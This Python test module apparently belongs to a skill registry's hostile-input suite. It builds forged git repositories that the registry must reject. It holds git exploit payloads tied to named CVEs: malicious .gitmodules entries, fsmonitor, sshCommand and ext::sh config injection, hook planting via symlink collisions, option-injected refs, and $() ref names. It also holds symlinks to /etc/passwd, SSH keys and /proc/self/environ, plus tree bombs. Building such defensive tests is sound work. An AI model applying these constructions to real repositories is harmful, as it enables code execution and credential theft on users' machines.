"""H1, and the sources that the registry must have an answer for: repositories that no honest git would make."""

from __future__ import annotations

from functools import partial

from tests.hostile.corpus import Attack, case
from tests.hostile.stage import Stage
from vskill_platform.testing.git_repos import (
    GITLINK,
    NO_OBJECT,
    REGULAR,
    SYMLINK,
    TREE,
    Entry,
    TreeEntry,
    gitlink,
    symlink,
)
from vskill_platform.testing.hostile_repos import RawRepository, nest

FORGED_NAMES = {
    "dotgit": b".git",
    "dotgit-case": b".GIT",
    "dotgit-mixed-case": b".giT",
    "dotgit-short-name": b"git~1",
    "dotgit-hfs": b".g\xe2\x80\x8cit",
    "dotgit-ntfs-space": b".git ",
    "dotgit-ntfs-dot": b".git.",
    "dotgit-ntfs-stream": b".git::$INDEX_ALLOCATION",
    "dotdot": b"..",
    "slash": b"../../escape",
    "absolute": b"/tmp/escape",
}
FORGED_MODULES = {
    "cve-2018-11235": b'[submodule "../../escape"]\n\tpath = sub\n\turl = https://example.org/x\n',
    "cve-2018-17456-url": b'[submodule "s"]\n\tpath = sub\n\turl = -u./payload\n',
    "cve-2018-17456-path": b'[submodule "s"]\n\tpath = -sub\n\turl = https://example.org/x\n',
    "cve-2019-19604": b'[submodule "s"]\n\tpath = sub\n\turl = https://example.org/x\n\tupdate = !payload\n',
    "cve-2020-5260": b'[submodule "s"]\n\tpath = sub\n\turl = https://a%0ahost=b/x\n',
}
LINKED_MODULES = {"gitmodules-symlink": b".gitmodules", "gitmodules-symlink-short": b"gitmod~1"}
LINKS = {
    "symlink-absolute": "/etc/passwd",
    "symlink-climbing": "../../../../etc/passwd",
    "symlink-home": "~/.ssh/id_ed25519",
    "symlink-loop": "link",
    "symlink-proc": "/proc/self/environ",
    "symlink-control": "\u202e\x1b[31mdwssap/cte/",
}


def with_skill(stage: Stage, repository: RawRepository, *entries: TreeEntry) -> None:
    """Commit a SKILL.md and these entries, in the order in which git wants them."""
    skill = TreeEntry(REGULAR, b"SKILL.md", repository.blob(stage.skill_md()))
    repository.commit_tree(repository.tree(sorted([skill, *entries], key=lambda entry: entry.name)))


async def forged_name(stage: Stage, *, name: bytes) -> Attack:
    repository = stage.repository()
    config = repository.blob(f"[core]\n\tfsmonitor = {stage.traps.command}\n".encode())
    hooks = repository.files({"post-checkout": stage.traps.payload()})
    inner = repository.tree([TreeEntry(REGULAR, b"config", config), TreeEntry(TREE, b"hooks", hooks)])
    with_skill(stage, repository, TreeEntry(TREE, name, inner))
    return Attack(url=stage.url)


async def forged_modules(stage: Stage, *, modules: bytes) -> Attack:
    repository = stage.repository()
    entries = [TreeEntry(REGULAR, b".gitmodules", repository.blob(modules)), TreeEntry(GITLINK, b"sub", NO_OBJECT)]
    with_skill(stage, repository, *entries)
    return Attack(url=stage.url)


async def linked_modules(stage: Stage, *, name: bytes) -> Attack:
    repository = stage.repository()
    with_skill(stage, repository, TreeEntry(SYMLINK, name, repository.blob(b"elsewhere")))
    return Attack(url=stage.url)


async def linked(stage: Stage, *, target: str) -> Attack:
    stage.repository({"SKILL.md": stage.skill_md(), "link": symlink(target)})
    return Attack(url=stage.url)


for _id, _name in FORGED_NAMES.items():
    case(f"H1-{_id}")(partial(forged_name, name=_name))
for _id, _modules in FORGED_MODULES.items():
    case(f"H1-{_id}")(partial(forged_modules, modules=_modules))
for _id, _name in LINKED_MODULES.items():
    case(f"H1-{_id}")(partial(linked_modules, name=_name))
for _id, _target in LINKS.items():
    case(f"H1-{_id}")(partial(linked, target=_target))


@case("H1-tree-duplicate-entries")
async def duplicate_entries(stage: Stage) -> Attack:
    repository = stage.repository()
    good, bad = repository.blob(stage.skill_md()), repository.blob(b"---\nname: other\n---\n")
    repository.commit_tree(repository.tree([TreeEntry(REGULAR, b"SKILL.md", id) for id in (good, bad)]))
    return Attack(url=stage.url)


@case("H1-object-not-its-id")
async def object_not_its_id(stage: Stage) -> Attack:
    """The file of an object holds another object: the server's own git refuses to send it."""
    repository = stage.repository({"SKILL.md": stage.skill_md(), "run.sh": b"echo good\n"})
    good, bad = repository.blob(b"echo good\n"), repository.blob(b"echo evil\n")
    objects = repository.path / "objects"
    (objects / good[:2] / good[2:]).write_bytes((objects / bad[:2] / bad[2:]).read_bytes())
    return Attack(url=stage.url, bindings=await stage.source(fetch_time_limit_s=20))


@case("H1-cve-2019-1387")
async def nested_submodule_names(stage: Stage) -> Attack:
    modules = b'[submodule "a"]\n\tpath = a\n\turl = %s\n[submodule "a/hooks"]\n\tpath = b\n\turl = %s\n'
    there = f"http://127.0.0.1:{stage.traps.listener.port}/x".encode()
    stage.repository(
        {"SKILL.md": stage.skill_md(), ".gitmodules": modules % (there, there), "a": gitlink(), "b": gitlink()}
    )
    return Attack(url=stage.url)


@case("H1-cve-2021-21300")
async def colliding_link_and_folder(stage: Stage) -> Attack:
    stage.repository(
        {
            "SKILL.md": stage.skill_md(),
            ".gitattributes": b"A/post-checkout filter=lfs\n",
            "A/post-checkout": stage.traps.payload(),
            "a": symlink(".git/hooks"),
        }
    )
    return Attack(url=stage.url)


@case("H1-cve-2024-32002")
async def colliding_submodule_path(stage: Stage) -> Attack:
    there = f"http://127.0.0.1:{stage.traps.listener.port}/x"
    modules = f'[submodule "x/y"]\n\tpath = A/modules/x\n\turl = {there}\n'.encode()
    stage.repository(
        {
            "SKILL.md": stage.skill_md(),
            ".gitmodules": modules,
            "A/modules/x": gitlink(),
            "a": symlink(".git"),
            "y/hooks/post-checkout": stage.traps.payload(),
        }
    )
    return Attack(url=stage.url)


@case("H1-cve-2025-48384")
async def carriage_return_in_submodule_path(stage: Stage) -> Attack:
    there = f"http://127.0.0.1:{stage.traps.listener.port}/x"
    modules = f'[submodule "s"]\n\tpath = "sub\r"\n\turl = {there}\n'.encode()
    stage.repository({"SKILL.md": stage.skill_md(), ".gitmodules": modules, "sub": gitlink()})
    return Attack(url=stage.url)


def nested_repository(stage: Stage) -> dict[str, bytes | Entry]:
    """A repository inside whose configuration and hooks name a program."""
    command = stage.traps.command
    config = (
        f"[core]\n\tbare = true\n\tfsmonitor = {command}\n\thooksPath = hooks\n\tsshCommand = {command}\n"
        f'[remote "origin"]\n\turl = ext::sh -c "{command}"\n\tpromisor = true\n[extensions]\n\tpartialClone = origin\n'
    )
    return {
        "HEAD": b"ref: refs/heads/main\n",
        "config": config.encode(),
        "hooks/post-checkout": stage.traps.payload(),
        "objects/info/alternates": b"/etc\n",
        "refs/heads/main": b"0" * 40 + b"\n",
    }


@case("H1-nested-bare-fsmonitor")
async def nested_bare(stage: Stage) -> Attack:
    files = {f"n/{path}": entry for path, entry in nested_repository(stage).items()}
    stage.repository({"SKILL.md": stage.skill_md(), **files})
    return Attack(url=stage.url)


@case("H1-cve-2024-32004")
async def repository_as_root(stage: Stage) -> Attack:
    """The folder that is scanned looks like a bare repository itself, as a crafted local clone would."""
    stage.repository({"SKILL.md": stage.skill_md(), **nested_repository(stage)})
    return Attack(url=stage.url)


@case("H1-cve-2024-32465")
async def hooks_in_served_repository(stage: Stage) -> Attack:
    """Hooks, configuration and attributes in the repository that is served, which a fetch must not bring along."""
    repository = stage.repository({"SKILL.md": stage.skill_md()})
    (repository.path / "hooks").mkdir()
    for hook in ("post-checkout", "reference-transaction", "post-rewrite"):
        (repository.path / "hooks" / hook).write_bytes(stage.traps.payload().content)
    (repository.path / "info").mkdir()
    (repository.path / "info/attributes").write_text("* filter=evil\n")
    return Attack(url=stage.url, publishes={"SKILL.md": stage.skill_md()})


@case("H1-attributes-filter")
async def attributes_filter(stage: Stage) -> Attack:
    attributes = b"*.md filter=evil diff=evil merge=evil ident\n*.txt eol=crlf working-tree-encoding=UTF-7\n"
    config = f'[filter "evil"]\n\tsmudge = {stage.traps.command}\n\trequired = true\n'.encode()
    files = {"SKILL.md": stage.skill_md("$Id$"), ".gitattributes": attributes, "a.txt": b"a\n", "gitconfig": config}
    stage.repository(files)
    return Attack(url=stage.url, publishes=files)


@case("H1-lfs-pointer")
async def lfs_pointer(stage: Stage) -> Attack:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 5\n"
    lfs = f"[lfs]\n\turl = http://127.0.0.1:{stage.traps.listener.port}/lfs\n".encode()
    files = {"model.bin": pointer, ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n", ".lfsconfig": lfs}
    stage.repository({"SKILL.md": stage.skill_md(), **files})
    return Attack(url=stage.url)


@case("H1-export-ignore-subst")
async def export_attributes(stage: Stage) -> Attack:
    """Attributes that would hide a file from an archive, or change one, on its way to the user."""
    files = {
        "SKILL.md": stage.skill_md("$Format:%H$"),
        ".gitattributes": b"notes.md export-ignore\nSKILL.md export-subst\n",
        "notes.md": b"Be kind.\n",
    }
    stage.repository(files)
    return Attack(url=stage.url, publishes=files)


@case("H1-gitlink")
async def submodule(stage: Stage) -> Attack:
    there = f"http://127.0.0.1:{stage.traps.listener.port}/x"
    modules = f'[submodule "s"]\n\tpath = sub\n\turl = {there}\n'.encode()
    stage.repository({"SKILL.md": stage.skill_md(), ".gitmodules": modules, "sub": gitlink()})
    return Attack(url=stage.url)


@case("H1-submodule-credentials")
async def submodule_with_credentials(stage: Stage) -> Attack:
    there = f"http://deploy:hunter2hunter2@127.0.0.1:{stage.traps.listener.port}/x"
    modules = f'[submodule "s"]\n\tpath = sub\n\turl = {there}\n'.encode()
    stage.repository({"SKILL.md": stage.skill_md(), ".gitmodules": modules, "sub": gitlink()})
    return Attack(url=stage.url)


@case("H1-linked-skill-md")
async def linked_skill_md(stage: Stage) -> Attack:
    stage.repository({"SKILL.md": symlink("/etc/passwd"), "a/SKILL.md": symlink("../b"), "b": stage.skill_md()})
    return Attack(url=stage.url)


async def deep_tree(stage: Stage, *, depth: int) -> Attack:
    repository = stage.repository()
    inner = repository.files({"SKILL.md": stage.skill_md()})
    repository.commit_tree(nest(repository, inner, depth=depth))
    return Attack(url=stage.url)


case("H1-deep-tree")(partial(deep_tree, depth=200))
case("H1-deep-tree-10k")(partial(deep_tree, depth=10_000))


@case("H1-deep-skill")
async def deep_skill(stage: Stage) -> Attack:
    stage.repository({"SKILL.md": stage.skill_md(), "d/" * 17 + "x": b"x"})
    return Attack(url=stage.url)


def wide_tree(repository: RawRepository, inner: str, *, width: int, levels: int) -> str:
    """A tree whose folders are all the same one, level by level: few objects, width ** levels files."""
    for _ in range(levels):
        inner = repository.tree([TreeEntry(TREE, b"%04d" % number, inner) for number in range(width)])
    return inner


async def many_files(stage: Stage, *, width: int, levels: int, limit: int) -> Attack:
    repository = stage.repository()
    leaf = repository.tree(TreeEntry(REGULAR, b"%04d" % n, repository.blob(b"x")) for n in range(width))
    repository.commit_tree(wide_tree(repository, leaf, width=width, levels=levels - 1))
    return Attack(url=stage.url, bindings=await stage.source(repo_max_files=limit))


case("H1-tree-bomb")(partial(many_files, width=10, levels=10, limit=2000))
case("H1-million-files")(partial(many_files, width=1000, levels=2, limit=200_000))


@case("H1-thousand-and-one-files")
async def too_many_files(stage: Stage) -> Attack:
    repository = stage.repository()
    leaf = repository.tree(TreeEntry(REGULAR, b"%04d" % n, repository.blob(b"x")) for n in range(1001))
    with_skill(stage, repository, TreeEntry(TREE, b"many", leaf))
    return Attack(url=stage.url)


@case("H1-control-refs")
async def control_refs(stage: Stage) -> Attack:
    repository = stage.repository({"SKILL.md": stage.skill_md()})
    commit = repository.commit({"SKILL.md": stage.skill_md()})
    strange = ("\x1b[31mred", f"$({stage.traps.command})", "--upload-pack=payload", "a\tb", "x" * 4000)
    lines = "".join(f"{commit} refs/heads/{name}\n" for name in strange)
    (repository.path / "packed-refs").write_text(lines)
    return Attack(url=f"{stage.url}/tree/main", publishes={"SKILL.md": stage.skill_md()})


@case("H1-option-as-ref")
async def option_as_ref(stage: Stage) -> Attack:
    stage.repository({"SKILL.md": stage.skill_md()})
    return Attack(url=f"{stage.url}/tree/--upload-pack=touch%20proof")


@case("H1-too-many-skills")
async def too_many_skills(stage: Stage) -> Attack:
    repository = stage.repository()
    leaf = repository.files({"SKILL.md": stage.skill_md()})
    repository.commit_tree(repository.tree(TreeEntry(TREE, b"s%04d" % n, leaf) for n in range(1001)))
    return Attack(url=stage.url)


@case("SRC-gone")
async def gone(stage: Stage) -> Attack:
    return Attack(url=stage.url)


@case("SRC-empty")
async def empty(stage: Stage) -> Attack:
    stage.repository()
    return Attack(url=stage.url)


@case("SRC-no-skill-md")
async def no_skill_md(stage: Stage) -> Attack:
    stage.repository({"README.md": b"Nothing here.\n", "SKILL.md/README.md": b"A folder.\n"})
    return Attack(url=stage.url)


@case("SRC-enormous-skill")
async def enormous_skill(stage: Stage) -> Attack:
    files = {f"{number}.txt": b"%d\n" % number * 1_000_000 for number in range(10, 19)}
    stage.repository({"SKILL.md": stage.skill_md(), **files})
    return Attack(url=stage.url)
